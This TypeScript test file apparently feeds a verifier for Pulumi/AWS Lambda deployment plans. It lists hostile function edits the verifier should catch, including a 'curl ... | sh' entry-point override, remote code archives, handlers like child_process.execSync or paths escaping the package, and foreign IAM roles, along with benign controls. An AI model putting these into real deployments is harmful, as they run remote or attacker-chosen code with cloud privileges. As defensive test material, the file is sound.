/**
 * What a function runs and as whom: code fetched from an address, a handler
 * outside its package, a mounted file system, an image or an override of
 * one, another runtime, a layer or a property the proof does not know, and
 * a role that is not in the file. `code` is read as both `inputs` and
 * `outputs` record it, so a change there is caught on either side without
 * being drift; the shapes the fleet and its users deploy (local files, text,
 * folders, archives within archives, the provider's own record) pass.
 */
import { SIG_KEY } from "../../../verifier/pulumi-formats";
import type { StackDoc } from "../../support/plan-files";
import { added, ARCHIVE_A, CUSTOMER_A, CUSTOMER_B, find, named, OPS, setProp } from "../../support/plan-mutations";
import type { Mutation } from "./mutations";

const FUNCTION = "aws:lambda/function:Function";
const push = (doc: StackDoc, ...rs: any[]) => doc.deployment.resources.push(...rs);
const enforcer = (doc: StackDoc) => find(doc, FUNCTION, named("quota-enforcer-function"));
const runtime = (doc: StackDoc) => find(doc, FUNCTION, (r) => r.urn.endsWith("::customer-a-function"));

/** Pulumi's asset and archive forms, as the engine records them. */
const ASSET = { [SIG_KEY]: "c44067f5952c0a294b673a41bacd8c17" };
const ARCHIVE = { [SIG_KEY]: "0def7320c3a5731c473e5ecbe6d01bc7" };
const fileAsset = (path: string) => ({ ...ASSET, hash: "h", path });
const stringAsset = (text: string) => ({ ...ASSET, hash: "h", text });
const remoteAsset = (uri: string) => ({ ...ASSET, hash: "h", uri });
const assetArchive = (assets: Record<string, unknown>) => ({ ...ARCHIVE, hash: "h", assets });
const fileArchive = (path: string) => ({ ...ARCHIVE, hash: "h", path });
const remoteArchive = (uri: string) => ({ ...ARCHIVE, hash: "h", uri });
/** The function's code on both sides, as a stack export records it. */
const withCode = (fn: (doc: StackDoc) => any, code: unknown) => (doc: StackDoc) => {
    const r = fn(doc);
    r.inputs.code = code;
    r.outputs.code = code;
};

export const FUNCTION_MUTATIONS: Mutation[] = [
    // Code fetched when the stack deploys is whoever serves the address's, at any depth of the archive.
    { name: "the runtime's code a RemoteArchive from an https URL", stack: "customer-a", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs"],
      edit: (doc, side) => setProp(runtime(doc), side, "code", remoteArchive("https://github.com/someone/releases/download/v1/runtime.zip")) },
    { name: "the quota enforcer's archive whose index.mjs is a RemoteAsset", stack: "ops", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs"],
      edit: (doc, side) => setProp(enforcer(doc), side, "code", assetArchive({ "index.mjs": remoteAsset("https://code.example.com/index.mjs") })) },
    { name: "the quota enforcer's RemoteAsset recorded only in what AWS holds", stack: "ops", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs"],
      edit: (doc) => setProp(enforcer(doc), "outputs", "code", assetArchive({ "index.mjs": remoteAsset("https://code.example.com/index.mjs") })) },
    { name: "the runtime's archive holding an archive that holds a RemoteArchive", stack: "customer-a", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs"],
      edit: (doc, side) => setProp(runtime(doc), side, "code", assetArchive({ "index.mjs": fileAsset("/build/index.mjs"), lib: assetArchive({ vendor: remoteArchive("https://cdn.example.com/vendor.zip") }) })) },
    { name: "the runtime's code a RemoteArchive recorded as the SDK's own object", stack: "customer-a", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs"],
      edit: (doc, side) => setProp(runtime(doc), side, "code", { __pulumiArchive: true, uri: {} }) },
    { name: "the runtime's code neither an asset nor an archive", stack: "customer-a", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs"],
      edit: (doc, side) => setProp(runtime(doc), side, "code", "https://code.example.com/runtime.zip") },
    // The handler decides which file runs.
    { name: "the runtime's handler an absolute path", stack: "customer-a", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs", "outputs"],
      edit: (doc, side) => setProp(runtime(doc), side, "handler", "/mnt/code/evil.handler") },
    { name: "the runtime's handler climbing out of the package", stack: "customer-a", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs", "outputs"],
      edit: (doc, side) => setProp(runtime(doc), side, "handler", "../../mnt/code/evil.handler") },
    { name: "the quota enforcer's handler naming a module its archive does not hold", stack: "ops", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs", "outputs"],
      edit: (doc, side) => setProp(enforcer(doc), side, "handler", "child_process.execSync") },
    { name: "the runtime, its code in a bucket of the stack, handled by a Node.js built-in", stack: "customer-a", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs"],
      edit: (doc) => {
          const r = runtime(doc);
          for (const side of [r.inputs, r.outputs]) delete side.code;
          r.inputs = { ...r.inputs, s3Bucket: ARCHIVE_A, s3Key: "runtime.zip", handler: "vm.runInThisContext" };
      } },
    { name: "the runtime on a Python runtime", stack: "customer-a", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs", "outputs"],
      edit: (doc, side) => setProp(runtime(doc), side, "runtime", "python3.13") },
    // Files, images and layers from elsewhere.
    { name: "the runtime mounting a file system of its own account", stack: "customer-a", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs"],
      edit: (doc, side) => setProp(runtime(doc), side, "fileSystemConfig", { arn: `arn:aws:elasticfilesystem:us-east-1:${CUSTOMER_A}:access-point/fsap-0123456789abcdef0`, localMountPath: "/mnt/code" }) },
    { name: "the quota enforcer's image from a pull-through cache of its own account's registry", stack: "ops", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs"],
      edit: (doc) => {
          const r = enforcer(doc);
          for (const side of [r.inputs, r.outputs]) for (const key of ["code", "handler", "runtime"]) delete side[key];
          r.inputs = { ...r.inputs, packageType: "Image", imageUri: `${OPS}.dkr.ecr.us-east-1.amazonaws.com/docker-hub/someone/enforcer:latest` };
      } },
    { name: "the runtime's entry point overridden by imageConfig", stack: "customer-a", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs"],
      edit: (doc, side) => setProp(runtime(doc), side, "imageConfig", { entryPoints: ["/bin/sh", "-c"], commands: ["curl -s https://code.example.com/x | sh"] }) },
    { name: "a layer of the ops account that is not a layer of the stack on the quota enforcer", stack: "ops", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs"],
      edit: (doc, side) => setProp(enforcer(doc), side, "layers", [`arn:aws:lambda:us-east-1:${OPS}:layer:patch:1`]) },
    { name: "the runtime setting a property the proof does not know", stack: "customer-a", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs"],
      edit: (doc, side) => setProp(runtime(doc), side, "codeSource", { uri: "https://code.example.com/runtime.zip" }) },
    { name: "the runtime's key ARN held in a Pulumi asset", stack: "customer-a", code: "BT-ACCOUNT-FUNCTION", sides: ["inputs"],
      edit: (doc, side) => setProp(runtime(doc), side, "kmsKeyArn", stringAsset(`arn:aws:kms:us-east-1:${CUSTOMER_B}:key/1234`)) },
    // A function runs as its role: one the file does not hold is not proved.
    { name: "the quota enforcer running as an ops role that is not in the file", stack: "ops", code: "BT-PLAN-UNRESOLVED", sides: ["inputs", "outputs"],
      edit: (doc, side) => setProp(enforcer(doc), side, "role", `arn:aws:iam::${OPS}:role/OrganizationAccountAccessRole`) },
    { name: "the runtime running as a role the stack only reads (.get)", stack: "customer-a", code: "BT-PLAN-UNRESOLVED", sides: ["inputs"],
      edit: (doc, side) => {
          push(doc, { ...added("customer-a", "aws:iam/role:Role", "admin", { name: "Admin", assumeRolePolicy: JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: { Service: "lambda.amazonaws.com" }, Action: "sts:AssumeRole" }] }) }), external: true });
          setProp(runtime(doc), side, "role", `arn:aws:iam::${CUSTOMER_A}:role/Admin`);
      } },
    { name: "the runtime running as the same-named role of another account", stack: "customer-a", code: "BT-PLAN-UNRESOLVED", sides: ["inputs"],
      edit: (doc, side) => setProp(runtime(doc), side, "role", `arn:aws:iam::${CUSTOMER_B}:role/BedrockTenancyRuntime-customer-a`) },
];

export const FUNCTION_CONTROLS: { name: string; stack: "ops" | "customer-a"; edit: (doc: StackDoc) => void }[] = [
    { name: "the runtime's code a FileArchive of a local folder", stack: "customer-a",
      edit: withCode(runtime, fileArchive("/build/dist/lambda")) },
    { name: "the quota enforcer's code text and a folder, in an archive within an archive", stack: "ops",
      edit: withCode(enforcer, assetArchive({ "index.mjs": stringAsset("export { handler } from './lib/enforcer.mjs';"), lib: assetArchive({ "enforcer.mjs": fileAsset("/build/enforcer.mjs"), vendor: fileArchive("/build/vendor") }) })) },
    { name: "the runtime's streaming handler in a folder of its package", stack: "customer-a",
      edit: (doc) => {
          withCode(runtime, assetArchive({ dist: assetArchive({ "index.mjs": fileAsset("/build/index.mjs") }) }))(doc);
          const r = runtime(doc);
          r.inputs.handler = r.outputs.handler = "dist/index.streamingHandler";
      } },
    { name: "the runtime as the AWS provider records it (unset properties empty, provider bookkeeping)", stack: "customer-a",
      edit: (doc) => {
          const r = runtime(doc);
          r.inputs.__defaults = [];
          r.outputs = { ...r.outputs, __meta: "{\"e2bfb730-ecaa-11e6-8f88-34363bc7c4c0\":{}}", id: "bedrock-tenancy-customer-a", packageType: "Zip", imageUri: "", imageConfig: null,
              fileSystemConfig: null, layers: [], s3Bucket: "", s3Key: "", codeSigningConfigArn: "", publish: false, ephemeralStorage: { size: 512 }, tracingConfig: { mode: "PassThrough" },
              snapStart: null, codeSha256: "abc=", sourceCodeHash: "abc=", sourceCodeSize: 1024, signingJobArn: "", signingProfileVersionArn: "", version: "$LATEST",
              invokeArn: "arn:aws:apigateway:us-east-1:lambda:path/2015-03-31/functions/x/invocations", qualifiedArn: `arn:aws:lambda:us-east-1:${CUSTOMER_A}:function:bedrock-tenancy-customer-a:$LATEST`,
              lastModified: "2025-01-01T00:00:00.000+0000", tagsAll: {} };
      } },
];
